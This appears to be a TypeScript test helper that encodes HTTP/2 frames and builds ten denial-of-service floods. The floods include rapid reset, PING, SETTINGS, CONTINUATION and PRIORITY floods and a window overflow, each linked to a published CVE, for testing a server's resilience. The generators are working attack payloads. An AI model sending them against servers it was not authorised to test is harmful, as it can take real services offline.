/**
 * HTTP/2 frames as bytes (RFC 9113 §4.1, §6), and the abusive sequences of the attack matrix
 * (reliability-matrix §1b, A1–A10) built from them. Each flood is one buffer, so a test writes it in
 * one go, as an attacker with a fast link would, and knows exactly what the server was sent.
 */

/** HTTP/2 frame types (RFC 9113 §6). */
export const FrameType = {
  Data: 0x0,
  Headers: 0x1,
  Priority: 0x2,
  RstStream: 0x3,
  Settings: 0x4,
  Ping: 0x6,
  Goaway: 0x7,
  WindowUpdate: 0x8,
  Continuation: 0x9,
} as const;

export const Flag = { EndStream: 0x1, Ack: 0x1, EndHeaders: 0x4 } as const;

/** HTTP/2 error codes (RFC 9113 §7). */
export const ErrorCode = { NoError: 0x0, ProtocolError: 0x1, InternalError: 0x2, FlowControlError: 0x3, RefusedStream: 0x7, Cancel: 0x8, CompressionError: 0x9, EnhanceYourCalm: 0xb } as const;

export function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
}

/** An HPACK string literal, not Huffman-coded (RFC 7541 §5.2); short values only. */
function hpackString(value: string): Buffer {
  const bytes = Buffer.from(value, 'latin1');
  if (bytes.length > 126) throw new Error('value too long for this encoder');
  return Buffer.concat([Buffer.from([bytes.length]), bytes]);
}

/** The header block of a GET for `path`, without HPACK indexing (so blocks can be sent in any order). */
export function getHeaderBlock(authority: string, path = '/'): Buffer {
  return Buffer.concat([
    Buffer.from([0x82, 0x86]), // :method GET, :scheme http (static table 2 and 6)
    Buffer.from([0x01]), // :authority, literal without indexing, name from static table 1
    hpackString(authority),
    Buffer.from([0x04]), // :path, literal without indexing, name from static table 4
    hpackString(path),
  ]);
}

/** A malformed request head: `:method GET`, `:scheme http`, no `:path` (RFC 9113 §8.3.1). */
const NO_PATH_BLOCK = Buffer.from([0x82, 0x86]);

function u32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0, 0);
  return bytes;
}

export function rstStream(streamId: number, code: number): Buffer {
  return frame(FrameType.RstStream, 0, streamId, u32(code));
}

/** `count` streams from `firstId` on, each a whole GET and at once RST_STREAM(CANCEL) (A1, CVE-2023-44487). */
export function rapidReset(count: number, authority: string, firstId = 1): Buffer {
  const frames: Buffer[] = [];
  for (let i = 0; i < count; i++) {
    const id = firstId + 2 * i;
    frames.push(frame(FrameType.Headers, Flag.EndHeaders | Flag.EndStream, id, getHeaderBlock(authority, `/attack/${id}`)), rstStream(id, ErrorCode.Cancel));
  }
  return Buffer.concat(frames);
}

/** `count` streams whose head lacks `:path`, which the server must reset itself (A2). */
export function malformedHeaders(count: number, firstId = 1): Buffer {
  const frames: Buffer[] = [];
  for (let i = 0; i < count; i++) frames.push(frame(FrameType.Headers, Flag.EndHeaders | Flag.EndStream, firstId + 2 * i, NO_PATH_BLOCK));
  return Buffer.concat(frames);
}

/** `count` PINGs, each wanting an answer (A3, CVE-2019-9512). */
export function pings(count: number): Buffer {
  const frames: Buffer[] = [];
  for (let i = 0; i < count; i++) {
    const data = Buffer.alloc(8);
    data.writeUInt32BE(i, 4);
    frames.push(frame(FrameType.Ping, 0, 0, data));
  }
  return Buffer.concat(frames);
}

/** `count` empty SETTINGS, each wanting an acknowledgement (A4, CVE-2019-9515). */
export function settingsFrames(count: number): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => frame(FrameType.Settings, 0, 0)));
}

/** A POST head on `streamId`, then `count` zero-length DATA frames without END_STREAM (A5, CVE-2019-9518). */
export function emptyData(count: number, authority: string, streamId = 1): Buffer {
  const head = Buffer.concat([Buffer.from([0x83]), getHeaderBlock(authority, '/attack').subarray(1)]); // :method POST
  const frames = [frame(FrameType.Headers, Flag.EndHeaders, streamId, head)];
  for (let i = 0; i < count; i++) frames.push(frame(FrameType.Data, 0, streamId));
  return Buffer.concat(frames);
}

/**
 * A HEADERS frame without END_HEADERS, then `count` CONTINUATION frames that never end the block (A6,
 * CVE-2024-27983): each carries a header field of its own, so the block grows with every frame.
 */
export function continuationFlood(count: number, authority: string, streamId = 1): Buffer {
  const frames = [frame(FrameType.Headers, Flag.EndStream, streamId, getHeaderBlock(authority, '/attack'))];
  const field = Buffer.concat([Buffer.from([0x00]), hpackString('x-flood'), hpackString('a'.repeat(32))]); // literal, new name
  for (let i = 0; i < count; i++) frames.push(frame(FrameType.Continuation, 0, streamId, field));
  return Buffer.concat(frames);
}

/** An empty HEADERS frame without END_HEADERS, then `count` empty CONTINUATION frames (A7, CVE-2019-9516). */
export function zeroLengthHeaders(count: number, streamId = 1): Buffer {
  const frames = [frame(FrameType.Headers, Flag.EndStream, streamId)];
  for (let i = 0; i < count; i++) frames.push(frame(FrameType.Continuation, 0, streamId));
  return Buffer.concat(frames);
}

/** Two WINDOW_UPDATEs of 2^31-1 on the connection: the window overflows (A8, CVE-2026-21714). */
export function windowOverflow(): Buffer {
  const increment = u32(2 ** 31 - 1);
  return Buffer.concat([frame(FrameType.WindowUpdate, 0, 0, increment), frame(FrameType.WindowUpdate, 0, 0, increment)]);
}

/** `count` PRIORITY frames on idle streams, no stream ever opened (A9, CVE-2019-9513). */
export function priorityFlood(count: number, firstId = 1): Buffer {
  const frames: Buffer[] = [];
  for (let i = 0; i < count; i++) {
    const id = firstId + 2 * (i % 1000); // on the same 1000 idle streams over and over, as RFC 9113 §5.3.4 lets a server keep
    frames.push(frame(FrameType.Priority, 0, id, Buffer.concat([u32(0), Buffer.from([15])])));
  }
  return Buffer.concat(frames);
}

/** `count` GETs on new streams, none of them finished (no END_STREAM), all open at once (A10). */
export function openStreams(count: number, authority: string, firstId = 1): Buffer {
  const frames: Buffer[] = [];
  for (let i = 0; i < count; i++) {
    const id = firstId + 2 * i;
    frames.push(frame(FrameType.Headers, Flag.EndHeaders, id, getHeaderBlock(authority, `/attack/${id}`)));
  }
  return Buffer.concat(frames);
}
